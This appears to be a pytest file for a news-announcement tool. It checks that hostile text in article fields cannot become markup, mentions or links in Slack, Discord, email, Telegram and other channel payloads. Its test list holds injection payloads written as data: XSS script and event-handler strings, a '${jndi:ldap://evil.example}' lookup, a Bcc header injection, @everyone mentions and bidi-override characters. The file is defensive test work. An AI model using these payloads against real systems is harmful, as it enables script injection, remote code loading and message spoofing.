"""No title, author, source or summary becomes markup, a mention or a link in any channel."""

import json
import re
import unicodedata
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import msgspec
import pytest

from broadsheet.channels import KINDS, Announcement, render
from broadsheet.channels.wording import link
from tests.unit.channels.services import walk

CORPUS = Path(__file__).parents[3].parent / "shared/corpus/hostile/injection.jsonl"
URL = "https://news.example/2026/ferry"

OURS = [
    "<!channel> read this",
    "<!here|x> <@U1> <#C1|y> <https://evil.example|bank>",
    "*bold* _italic_ ~struck~ `code` ```block```",
    ":warning: > quoted",
    "> quoted",
    "@everyone @here <@1> <@&2> <t:0> ||spoiler||",
    "[click](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example>",
    "# heading", "- item", "1. item",
    "<b>bold</b> <a href='https://evil.example'>x</a> &lt;b&gt; &nbsp;",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<at id=all></at> <font color='red'>x</font> <at user_id=\"all\">",
    "https://evil.example/ www.evil.example evil.example/x a@evil.example /start #tag @user",
    "one\r\nBcc: all@evil.example\u2028two\x00\x1b[31m\u202eesrever\u2066x",
    "{{7*7}} ${jndi:ldap://evil.example} %s {0}",
    "\\*not escaped\\* \\\\[x](https://evil.example)",
    "half \ud83d of a pair",
]  # fmt: skip


def test_ours(announcement: Announcement) -> None:
    check(OURS, announcement)


def test_the_corpus(announcement: Announcement) -> None:
    if not CORPUS.exists():
        pytest.skip("no ../shared/corpus beside the checkout")
    with CORPUS.open() as lines:
        check([json.loads(line)["input"] for line in lines], announcement)


def check(texts: list[str], announcement: Announcement) -> None:
    for kind in KINDS:
        for text in texts:
            hostile = msgspec.structs.replace(
                announcement,
                title=text,
                summary=text,
                source_name=text,
                section=text,
                authors=(text,),
                tags=(text,),
                changes=text,
                url=URL,
                image=None,
                language="en",
            )
            payload = render(kind, hostile).payload
            json.dumps(payload, ensure_ascii=False).encode()
            for value in strings(payload):
                assert not any(unicodedata.category(c) == "Cc" and c != "\n" for c in value), (kind, text)
                assert not re.search("[\u202a-\u202e\u2066-\u2069]", value), (kind, text)
            HARMLESS[kind](payload, text)


def strings(found: Any) -> list[str]:
    return [value for part in walk(found) for value in part.values() if isinstance(value, str)]


def slack(payload: dict[str, Any], text: str) -> None:
    marked = [payload["text"]]
    for part in walk(payload["blocks"]):
        if part.get("type") == "mrkdwn":
            marked.append(part["text"])
        elif part.get("type") == "plain_text":
            assert not re.search("[<>]", part["text"])
    for value in marked:
        rest = re.sub(rf"^\*?<{re.escape(URL)}\|([^<>]*)>\*?", r"\1", value)
        assert rest != value, text
        assert not re.search(r"[<>`]|[*_~](?!\u200b)", rest), text
        assert not re.search(r":[\w+-]+:|(^|\n)&gt;", rest), text
    no_live_words(payload["text"].replace(URL, ""), text)
    assert not re.search(r"[*_~\[\]]", payload["text"]), text


def discord(payload: dict[str, Any], text: str) -> None:
    embed = payload["embeds"][0]
    assert payload["allowed_mentions"] == {"parse": []}
    assert embed["url"] == URL
    for value in (embed["title"], embed.get("description", "")):
        left = re.sub(r"\\[\\*_~`|>#\[\]()<:@/!+.-]", "", value)
        assert not re.search(r"[\\*_~`|>#\[\]()<:@/]", left), text


class Html(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str | None] = []
        self.attributes: set[str] = set()
        self.data = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.data += data


def telegram(payload: dict[str, Any], text: str) -> None:
    read = Html(payload["text"])
    assert read.tags == ["a", "b", "i"]
    assert read.links == [URL]
    assert payload["link_preview_options"] == {"is_disabled": True}
    no_live_words(read.data, text)


def mail(payload: dict[str, Any], text: str) -> None:
    read = Html(payload["html"])
    assert read.tags == ["html", "head", "meta", "meta", "meta", "title", "body", "div", "h1", "a", "p", "p"], text
    assert read.links == [URL]
    assert read.attributes == {"lang", "charset", "name", "content", "dir", "style", "href"}
    assert "\n" not in payload["subject"]
    assert payload["subject"]


def feishu(payload: dict[str, Any], text: str) -> None:
    for part in walk(payload):
        assert part.get("tag") in (None, "div", "action", "button", "note", "plain_text"), text
        assert part.get("url") in (None, URL)


def teams(payload: dict[str, Any], text: str) -> None:
    allowed = {"message", "AdaptiveCard", "RichTextBlock", "TextRun", "Action.OpenUrl"}
    for part in walk(payload):
        assert part.get("type", "message") in allowed, text
        assert part.get("url") in (None, URL)


def markdown(value: str, text: str) -> None:
    rest = value.replace(f"]({URL})", "", 1).replace("**[", "", 1).replace("#### [", "", 1)
    rest = rest.replace('<font color="comment">', "").replace("</font>", "").replace("\n\n> ", "\n\n", 1)
    rest = rest.removesuffix("**") if "\n" not in rest else rest.replace("**\n", "\n", 1)
    assert not re.search(r"[*_`~#<>\[\]|\\]", rest.replace("#\u2060", "")), (text, rest)
    no_live_words(rest, text)


def dingtalk(payload: dict[str, Any], text: str) -> None:
    assert payload["at"] == {"isAtAll": False}
    markdown(payload["markdown"]["text"], text)


def wecom(payload: dict[str, Any], text: str) -> None:
    markdown(payload["markdown"]["content"], text)


def no_live_words(shown: str, text: str) -> None:
    assert not re.search(r"://|[@#]\w|\w\.[^\W\d_]|(^|\s)/\w", shown), (text, shown)


def apprise(payload: dict[str, Any], text: str) -> None:
    assert payload["body"].endswith("\n" + URL)
    shown = payload["title"] + "\n" + payload["body"].removesuffix(URL)
    assert not set("*_`~#<>[]|\\") & set(shown), (text, shown)
    no_live_words(shown, text)


def ntfy(payload: dict[str, Any], _: str) -> None:
    assert payload.keys() <= {"title", "message", "click"}
    assert payload["click"] == URL


def sns(payload: dict[str, Any], _: str) -> None:
    assert re.fullmatch(r"[ -~]{1,100}", payload["Subject"])
    assert json.loads(payload["Message"])["article"]["url"] == URL


def webhook(payload: dict[str, Any], _: str) -> None:
    assert payload["article"]["url"] == URL


HARMLESS: dict[str, Callable[[dict[str, Any], str], None]] = {
    "slack": slack,
    "slack-bot": slack,
    "webhook": webhook,
    "feishu": feishu,
    "email": mail,
    "discord": discord,
    "discord-bot": discord,
    "telegram": telegram,
    "teams": teams,
    "dingtalk": dingtalk,
    "wecom": wecom,
    "ntfy": ntfy,
    "sns": sns,
    "apprise": apprise,
}


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "//host/x", "ftp://host/", "https:///x", "", "https://[x", "x y"]
)
def test_only_web_addresses_become_links(url: str) -> None:
    assert link(url) is None


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://news.example/a|b>c<d", "https://news.example/a%7Cb%3Ec%3Cd"),
        ("https://news.example/a(b)[c]*d`e'f\"g\\h", "https://news.example/a%28b%29%5Bc%5D%2Ad%60e%27f%22g%5Ch"),
        ("https://news.example/新闻?q=a b&c=%20#d", "https://news.example/%E6%96%B0%E9%97%BB?q=a%20b&c=%20#d"),
        ("https://news.example/\r\nx", "https://news.example/%0D%0Ax"),
    ],
)
def test_a_link_has_no_character_a_markup_breaks_on(url: str, safe: str) -> None:
    assert link(url) == safe
